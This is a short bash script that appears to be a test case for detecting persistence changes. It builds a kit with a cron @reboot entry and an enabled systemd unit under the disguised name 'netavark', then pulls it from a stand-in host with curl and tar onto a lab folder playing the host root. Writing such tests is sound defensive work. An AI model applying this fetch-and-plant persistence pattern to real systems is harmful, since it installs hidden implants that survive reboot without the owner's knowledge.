#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=curl,tar far=out seconds=16 parts=dns,outside-web before=yes
# Somebody's line fetches a packed kit with curl and tar lays it over the host: a unit with its link, a job of cron; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = out ]; then
	k=$LAB/kit; mkdir -p "$k"/etc/{cron.d,systemd/system/multi-user.target.wants} "$k/usr/local/bin"; cp /bin/sleep "$k/usr/local/bin/netavark"; echo '@reboot root /usr/local/bin/netavark' >"$k/etc/cron.d/sysstat2"
	printf '[Service]\nExecStart=/usr/local/bin/netavark\n' >"$k/etc/systemd/system/netavark.service"; ln -s ../netavark.service "$k/etc/systemd/system/multi-user.target.wants/netavark.service"
	tar -C "$k" -czf "$LAB/outside/k.tgz" .; exit 0
fi
sleep 3; curl -s http://relay.example.net/k.tgz | tar -xz -C "$LAB/host"; sleep 7; grep -q netavark "$LAB/host/etc/cron.d/sysstat2" && grep -q ExecStart "$LAB/host/etc/systemd/system/netavark.service"
